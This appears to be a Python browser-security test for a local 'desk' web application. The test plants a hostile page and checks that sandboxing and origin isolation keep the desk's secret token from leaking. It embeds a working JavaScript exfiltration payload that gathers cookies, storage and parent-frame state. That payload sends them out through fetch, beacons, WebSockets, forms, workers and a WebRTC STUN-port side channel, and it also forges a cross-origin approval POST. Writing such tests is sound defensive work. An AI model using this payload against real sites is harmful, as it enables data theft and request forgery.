# SPDX-License-Identifier: GPL-3.0-or-later
"""desk_stranger.py: a case whose page a stranger made, and a stranger's page in the same browser, against the desk in chromium. They try
every way out that a page has; what comes to listening sockets holds no digit of the desk's secret, and the desk gives them nothing.
TREPHINE and PAGE_SAMPLES are the programs."""
import http.server
import json
import pathlib
import socket
import tempfile
import threading
import time

from desk import Desk, Page, no_console_errors
from page import make_pages
from webdriver import Browser, Checks

DIGITS = 8  # of the secret, each told by the port at which a packet comes

# What a page knows of where it is, and every way to tell it. OUT is a server, PORTS the ports of the digits, DESK the desk.
ATTACK = """
const known = f => { try { return String(f() || '') } catch (e) { return '' } }
const knows = [() => location.href, () => document.referrer, () => window.name, () => document.cookie, () => top.location.href,
  () => parent.document.documentElement.outerHTML, () => opener.location.href, () => sessionStorage.getItem('trephine-desk'),
  () => location.ancestorOrigins[0], () => parent.secret, () => opener.secret].map(known).join(' ')
const q = encodeURIComponent(knows), to = way => OUT + way + '?' + q, got = window.got = []
const tried = f => { try { f() } catch (e) {} }
const take = async (path, how) => { try { const r = await fetch(DESK + path, how); got.push(path + ' ' + r.status + ' ' + (await r.text()).slice(0, 200)) } catch (e) {} }
tried(() => fetch(to('fetch'), { mode: 'no-cors', keepalive: true }).catch(() => {}))
tried(() => { const x = new XMLHttpRequest(); x.open('POST', to('xhr')); x.send(q) })
tried(() => navigator.sendBeacon(to('beacon'), q))
tried(() => new WebSocket(to('ws').replace('http', 'ws')))
tried(() => new EventSource(to('events')))
tried(() => { new Image().src = to('image') })
for (const [tag, more] of [['script', {}], ['iframe', {}], ['embed', {}], ['video', {}], ['link', { rel: 'stylesheet' }], ['link', { rel: 'preload', as: 'fetch' }],
    ['link', { rel: 'prefetch' }], ['link', { rel: 'preconnect' }], ['link', { rel: 'dns-prefetch' }], ['object', {}]])
  tried(() => { const e = Object.assign(document.createElement(tag), more); e.src = e.href = e.data = to(tag); document.head.append(e) })
tried(() => { const f = document.createElement('form'); f.action = to('form'); f.method = 'post'; f.target = '_blank'; document.body.append(f); f.submit() })
tried(() => new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(to('worker'))}, { mode: 'no-cors' })`]))))
tried(() => new SharedWorker(to('shared')))
tried(() => navigator.serviceWorker.register('sw.js').catch(() => {}))
tried(() => window.open(to('open')))
tried(() => { const a = Object.assign(document.createElement('a'), { href: to('link'), target: '_blank', ping: to('ping') }); document.body.append(a); a.click() })
for (const path of ['', 'api/library', 'api/status', 'api/case?case=marked'])
  for (const how of [{}, { credentials: 'include' }, { headers: { 'Trephine-Desk': (knows.match(/[0-9a-f]{32}/) || ['x'])[0] } }])
    take(path, how)
take('api/approve', { method: 'POST', body: '{"case":"marked","by":"evil"}', headers: { 'Content-Type': 'text/plain' }, mode: 'no-cors', credentials: 'include' })
tried(() => {
  const secret = (knows.match(/[0-9a-f]{32}/) || [''])[0]
  for (let i = 0; secret && i < PORTS.length; ++i) {
    const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + PORTS[i][parseInt(secret[i], 16)] }] })
    c.createDataChannel('x')
    c.createOffer().then(o => c.setLocalDescription(o))
  }
})
setTimeout(() => { for (const f of [() => (top.location = to('top')), () => (parent.location = to('parent')), () => (location = to('self'))]) tried(f) }, 3000)
"""


class Listeners:
    """What comes to a server of pages, byte by byte, and to which port of each digit."""
    def __init__(self):
        self.came, self.digits, self.pages = [], {}, {}
        listeners = self

        class Answer(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                body = self.headers.get("Content-Length")
                listeners.came.append(self.requestline + str(self.headers) + (self.rfile.read(int(body)).decode("latin-1") if body else ""))
                page = listeners.pages.get(self.path, "")
                try:
                    self.send_response(200)
                    self.send_header("Content-Type", "text/html")
                    self.send_header("Access-Control-Allow-Origin", "*")
                    self.end_headers()
                    self.wfile.write(page.encode())
                except OSError:
                    pass  # whoever asked has gone

            do_POST = do_OPTIONS = do_GET

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Answer)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_port}/"
        self.sockets = [[socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(16)] for _ in range(DIGITS)]
        for row in self.sockets:
            for s in row:
                s.bind(("127.0.0.1", 0))
                s.setblocking(False)

    def ports(self):
        return [[s.getsockname()[1] for s in row] for row in self.sockets]

    def secret(self):
        """The digits that were told so far, - for each that was not."""
        for i, row in enumerate(self.sockets):
            for digit, s in enumerate(row):
                try:
                    while s.recv(4096):
                        self.digits[i] = f"{digit:x}"
                except OSError:
                    pass
        return "".join(self.digits.get(i, "-") for i in range(DIGITS))

    def script(self, desk):
        return f"const OUT = {json.dumps(self.url)}, PORTS = {json.dumps(self.ports())}, DESK = 'http://127.0.0.1:{desk.port}/';\n" + ATTACK


def nothing_told(check, desk, out, who):
    time.sleep(5)  # for whatever is on its way
    told = out.secret()
    check(told != desk.token[:DIGITS], f"{who}: packets told {told} of {desk.token}")
    leaks = [c[:300] for c in out.came if desk.token in c]
    check(not leaks, f"{who}: {len(leaks)} requests hold the secret: {leaks[:1]}")


def in_the_desk(check, page, desk, out, library):
    """The case's page that a stranger made is not shown; the one in its place tells nothing, even where its script were his."""
    b = page.b
    page.until("document.documentElement.dataset.ready === 'library' && desk.cases.length === 2", "the library")
    check(desk.token not in b.js("return location.href + document.documentElement.outerHTML"), "the secret has left the address")
    b.js("location.hash = 'case/marked'")
    page.until("!!document.querySelector('iframe')", "the frame")
    nothing_told(check, desk, out, "the frame of a stranger's page")
    check(not out.came, f"nothing came from that frame: {out.came[:2]}")
    b.call("/frame", {"id": b.call("/element", {"using": "css selector", "value": "iframe"})})
    check("STRANGER" not in b.js("return document.documentElement.outerHTML") and b.js("return document.title").startswith("marked"), "the page is made of the case")
    check(b.js("return document.getElementById('problem').hidden"), "and has no problem")
    address = b.js("return location.href")
    check(f":{desk.port}/" not in address and desk.token not in address, f"it comes from another origin: {address}")
    b.js(out.script(desk))
    nothing_told(check, desk, out, "a script in the frame")
    check(not out.came, f"nothing came from a script in the frame but packets: {out.came[:2]}")
    b.call("/frame", {"id": None})
    check(b.js("return location.href") == f"http://127.0.0.1:{desk.port}/#case/marked", "and the desk is where it was")
    host, path = address.split("/")[2], address.split("/")[3].split("#")[0]
    with socket.create_connection(("127.0.0.1", int(host.split(":")[1]))) as s:
        s.sendall(f"GET /{path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
        said = s.recv(65536)
    check(said.startswith(b"HTTP/1.1 404"), f"the frame's address gave its page once: {said[:40]}")
    check(b"sandbox" in said and b"no-referrer" in said and b"Cross-Origin-Opener-Policy" in said, "with its policies")
    check(not (library / "marked/approved.json").exists(), "nothing was approved")


def opened_alone(check, page, desk, out):
    """What is meant for a frame is no page of a tab."""
    b = page.b
    b.open(desk.url)
    page.until("document.documentElement.dataset.ready === 'library'", "the library")
    b.call("/timeouts", {"script": 120000})
    address = b.call("/execute/async", {"script": "askJson('page', { case: 'felt' }).then(p => arguments[0](p.address))", "args": []})
    b.open(address)
    check(b.js("return document.querySelectorAll('canvas').length") == 0, "the page of a case opens in no tab of its own")
    check("felt" not in b.js("return document.documentElement.outerHTML"), "and gives nothing there")


def find_window(b, url):
    end = time.monotonic() + 120
    while time.monotonic() < end:
        for handle in b.call("/window/handles"):
            b.call("/window", {"handle": handle})
            if b.js("return location.href + (window.got ? '' : '?')") == url:
                return
        time.sleep(0.5)
    raise RuntimeError("no window shows " + url)


def beside_the_desk(check, page, desk, out, library):
    """Another server's page on this machine, in a tab of the same browser, while the desk is open."""
    b = page.b
    out.came.clear()
    out.pages["/evil"] = "<p>STRANGER</p><iframe src='http://127.0.0.1:%d/'></iframe><script>%s</script>" % (desk.port, out.script(desk).replace("3000", "200000"))
    b.open(desk.url)
    page.until("document.documentElement.dataset.ready === 'library'", "the library")
    b.js("window.open(arguments[0])", out.url + "evil")
    find_window(b, out.url + "evil")
    nothing_told(check, desk, out, "a page beside the desk")
    got = b.js("return window.got")
    check(got == [], f"the desk gave it nothing: {got}")
    check(not (library / "marked/approved.json").exists(), "and approved nothing")
    frame = b.js("const w = window.open(arguments[0]); try { return String(w.location.href) + w.sessionStorage.length } catch (e) { return '' }", f"http://127.0.0.1:{desk.port}/")
    check(frame in ("", "about:blank0"), f"a desk that it opens is closed to it: {frame}")


def the_owner(check, browser, desk, folder):
    """The secret is kept for a reload, and for nobody else; the file by which the desk opens a browser leads there."""
    page = Page(browser, check)
    file = folder / "desk.html"
    file.write_text(f'<!DOCTYPE html><meta http-equiv="refresh" content="0;url={desk.url}">')
    browser.open(file.as_uri())
    page.until("document.documentElement.dataset.ready === 'library' && desk.cases.length === 2", "the library, by the file")
    browser.js("location.reload()")
    time.sleep(1)
    page.until("document.documentElement.dataset.ready === 'library' && desk.cases.length === 2", "the library after a reload")
    page.until("document.querySelectorAll('.card').length === 2", "its cards")
    check(browser.js("return location.hash + document.cookie") == "", "and neither address nor cookie holds anything")
    no_console_errors(browser, check)
    browser.call("/window/new", {"type": "tab"})
    browser.call("/window", {"handle": browser.call("/window/handles")[-1]})
    browser.open(f"http://127.0.0.1:{desk.port}/")
    time.sleep(3)
    told = browser.js("return document.getElementById('problem-text').textContent + '|' + desk.cases.length")
    check("secret" in told and told.endswith("|0"), f"another tab is told what it lacks: {told}")


def main():
    check, out = Checks(), Listeners()
    with tempfile.TemporaryDirectory() as folder:
        folder = pathlib.Path(folder)
        library = folder / "library"
        library.mkdir()
        make_pages(library)
        with Desk(None, library) as desk:
            hostile = f"<!DOCTYPE html><title>STRANGER</title><body><script>{out.script(desk)}</script></body>"
            (library / "marked/report/view.html").write_text(hostile)
            with Browser() as browser:
                page = Page(browser, check)
                browser.open(desk.url)
                in_the_desk(check, page, desk, out, library)
            with Browser() as browser:
                opened_alone(check, Page(browser, check), desk, out)
            with Browser() as browser:
                beside_the_desk(check, Page(browser, check), desk, out, library)
            with Browser() as browser:
                the_owner(check, browser, desk, folder)
            check(desk.end() == 0, "Ctrl-C ends the desk")
    check.end()


if __name__ == "__main__":
    main()
